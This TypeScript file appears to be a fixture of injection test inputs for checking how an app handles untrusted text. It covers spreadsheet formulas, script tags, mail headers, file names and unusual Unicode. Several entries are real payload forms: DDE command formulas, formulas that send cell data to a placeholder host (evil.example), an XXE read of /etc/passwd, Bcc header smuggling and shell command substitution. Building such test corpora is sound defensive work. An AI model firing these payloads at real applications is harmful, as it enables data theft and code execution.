// What somebody might type, paste or import so that a program takes it for more than text. Live ones would rename the page to LIVE.

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const payload = (name: string, text: string): Payload => ({ name, text });

const formulas: readonly Payload[] = [
  payload('a formula', '=1+1'),
  payload('a sum', '+1+1'),
  payload('a difference', '-1+1'),
  payload('an old formula', '@SUM(A1)'),
  payload('a formula after a tab', '\t=1+1'),
  payload('a formula after a carriage return', '\r=1+1'),
  payload('a formula after a line feed', '\n=1+1'),
  payload('a formula after a space', ' =1+1'),
  payload('a full-width formula', '＝1+1'),
  payload('a full-width sum', '＋1+1'),
  payload('a full-width difference', '－1+1'),
  payload('a full-width at sign', '＠SUM(A1)'),
  payload('a small equals sign', '﹦1+1'),
  payload('a command for Excel', "=cmd|' /C calc'!A0"),
  payload('a command behind a sum', '+cmd|"/c notepad"!A1'),
  payload('a link by formula', '=HYPERLINK("http://evil.example/?"&A1,"看结果")'),
  payload('an import by formula', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")'),
  payload('a picture by formula', '=IMAGE("http://evil.example/x.png")'),
  payload('a web service by formula', '=WEBSERVICE("http://evil.example/")'),
  payload('an array formula', '{=1+1}'),
  payload('an apostrophe before a formula', "'=1+1"),
  payload('a cell of a table of values', '甲组",=1+1,"'),
];

const pages: readonly Payload[] = [
  payload('a script', "<script>document.title='LIVE'</script>"),
  payload('a script in capitals', "<ScRiPt>document.title='LIVE'</sCrIpT>"),
  payload('a picture that fails', "<img src=x onerror=document.title='LIVE'>"),
  payload('a picture behind an attribute', `"><img src=x onerror="document.title='LIVE'">`),
  payload('a picture behind a single quote', `'><img src=x onerror='document.title="LIVE"'>`),
  payload('a drawing', "<svg onload=document.title='LIVE'>"),
  payload('a drawing with a script', "<svg><script>document.title='LIVE'</script></svg>"),
  payload('a style', '<style>*{display:none}</style>'),
  payload('the end of a style', "</style><script>document.title='LIVE'</script>"),
  payload('the end of a title', "</title><script>document.title='LIVE'</script>"),
  payload('the end of a script', "</script><script>document.title='LIVE'</script>"),
  payload('the end of a cell', "</td></tr></table><script>document.title='LIVE'</script>"),
  payload('a comment', '<!-- '),
  payload('the end of a comment', "--><script>document.title='LIVE'</script>"),
  payload('a frame', '<iframe srcdoc="<script>parent.document.title=\'LIVE\'</script>"></iframe>'),
  payload('a frame elsewhere', '<iframe src=https://evil.example/></iframe>'),
  payload('a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/">'),
  payload('a base', '<base href=https://evil.example/>'),
  payload('a form', '<form action=https://evil.example/><button>确定</button></form>'),
  payload('a handler in an attribute', `" autofocus onfocus="document.title='LIVE'" x="`),
  payload('a link with a script', `<a href="javascript:document.title='LIVE'">看结果</a>`),
  payload('the address of a script', "javascript:document.title='LIVE'"),
  payload('a page as an address', "data:text/html,<script>document.title='LIVE'</script>"),
  payload('a style with an address', '"; background: url(https://evil.example/x.png); x: "'),
  payload('an import of a style', '@import url(https://evil.example/x.css);'),
  payload('an expression in a style', "expression(document.title='LIVE')"),
  payload('entities', '&lt;script&gt;&#60;img src=x&#62;&quot;&apos;'),
  payload('an entity without its end', '&lt&#x3cscript&#x3e'),
  payload('a backtick', "`${document.title='LIVE'}`"),
  payload('a template of Google', "<?!= document.title='LIVE' ?><? while (true); ?>"),
  payload('a template with braces', "{{constructor.constructor('return 1')()}} {placeholder} ${7*7}"),
  payload('a marked section', '<![CDATA[<script>]]>'),
  payload('an entity of a document type', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;'),
  payload('an instruction', '<?xml version="1.0"?><?php system("id") ?>'),
];

const headers: readonly Payload[] = [
  payload('a header', '结果\r\nBcc: evil@example.com'),
  payload('a header after a line feed', '结果\nBcc: evil@example.com'),
  payload('a body', '结果\r\n\r\n<b>别的内容</b>'),
  payload('a header written as percents', '结果%0d%0aBcc: evil@example.com'),
  payload('a header in an encoded word', '=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?='),
  payload('a line separator', '结果\u2028Bcc: evil@example.com'),
  payload('a dot alone', '结果\r\n.\r\nMAIL FROM:<evil@example.com>'),
  payload('a further recipient', 'li@example.com, evil@example.com'),
];

const names: readonly Payload[] = [
  payload('a path upwards', '../../etc/passwd'),
  payload('a path of Windows', '..\\..\\Windows\\win.ini'),
  payload('a device', 'CON'),
  payload('a device with an ending', 'nul.txt'),
  payload('a stream of a file', '通报.pdf::$DATA'),
  payload('signs that file systems refuse', 'a<b>c:d"e|f?g*h'),
  payload('an option of a command', '--output=/etc/passwd'),
  payload('commands of a shell', '$(touch live)`touch live`;touch live'),
];

const characters: readonly Payload[] = [
  payload('a null character', '甲\u0000组'),
  payload('an escape sequence of a terminal', '甲\u001B[2J\u001B]0;LIVE\u0007组'),
  payload('an escape of Excel', '甲_x000D__x003C_组'),
  payload('a turned direction', '甲\u202Egpj.exe'),
  payload('isolates', '甲\u2066组\u2069'),
  payload('characters of no width', '甲\u200B\u200D\uFEFF组'),
  payload('an emoji', '甲😀👨‍👩‍👧'),
  payload('half of a character', '甲\uD800组'),
  payload('no character', '甲\uFFFE\uFFFF组'),
  payload('a private character', '甲\uE000组'),
  payload('stacked accents', `甲${'\u0336\u0315\u031B'.repeat(30)}组`),
  payload('a very long text', '长'.repeat(1200)),
  payload('a long text without a break', 'x'.repeat(600)),
  payload('the name of a member of every object', '__proto__'),
  payload('another such name', 'constructor'),
];

export const payloads: readonly Payload[] = [...formulas, ...pages, ...headers, ...names, ...characters];
